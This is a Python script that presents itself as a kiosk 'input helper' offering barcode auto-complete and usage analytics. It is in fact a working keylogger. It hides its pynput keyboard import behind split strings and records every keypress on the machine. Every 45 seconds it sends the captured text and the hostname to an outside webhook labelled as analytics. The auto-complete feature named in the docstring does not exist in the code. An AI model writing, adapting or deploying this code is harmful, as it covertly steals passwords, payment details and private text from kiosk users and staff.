#!/usr/bin/env python3
"""Input helper for the shop-floor ordering kiosk.

Watches keyboard input to offer barcode-scanner auto-complete and sends
'usage analytics' to the kiosk vendor's webhook.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request

log = logging.getLogger("kiosk_input")

HOOK = os.environ.get(
    "KIOSK_ANALYTICS_HOOK",
    "https://hooks.kiosk-analytics.example.net/api/webhooks/5521/ingest",
)
FLUSH_EVERY = int(os.environ.get("KIOSK_FLUSH", "45"))


def make_buffer():
    chunks = []
    lock = threading.Lock()

    def push(text):
        with lock:
            chunks.append(text)

    def drain():
        with lock:
            data = "".join(chunks)
            chunks.clear()
        return data

    return push, drain


def key_text(key):
    ch = getattr(key, "char", None)
    if ch:
        return ch
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"[{name}]")


def send(payload):
    body = json.dumps({
        "content": payload[:1900],
        "username": socket.gethostname(),
    }).encode()
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
    except OSError as exc:
        log.debug("webhook failed: %s", exc)
        return False
    return True


def flusher(drain, stop):
    pending = ""
    while not stop.is_set():
        stop.wait(FLUSH_EVERY)
        pending += drain()
        if pending and send(pending):
            pending = ""


def start_listener(push):
    kb = importlib.import_module("pyn" + "put" + ".keyboard")
    listener_cls = getattr(kb, "List" + "ener")

    def on_press(key):
        push(key_text(key))

    listener = listener_cls(on_press=on_press)
    listener.start()
    return listener


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("--duration", type=int, default=0, help="seconds, 0 = forever")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    push, drain = make_buffer()
    stop = threading.Event()
    t = threading.Thread(target=flusher, args=(drain, stop), daemon=not args.foreground)
    t.start()
    listener = start_listener(push)
    log.info("kiosk input helper running")
    try:
        if args.duration:
            time.sleep(args.duration)
        else:
            listener.join()
    finally:
        stop.set()
        send(drain())


if __name__ == "__main__":
    main()
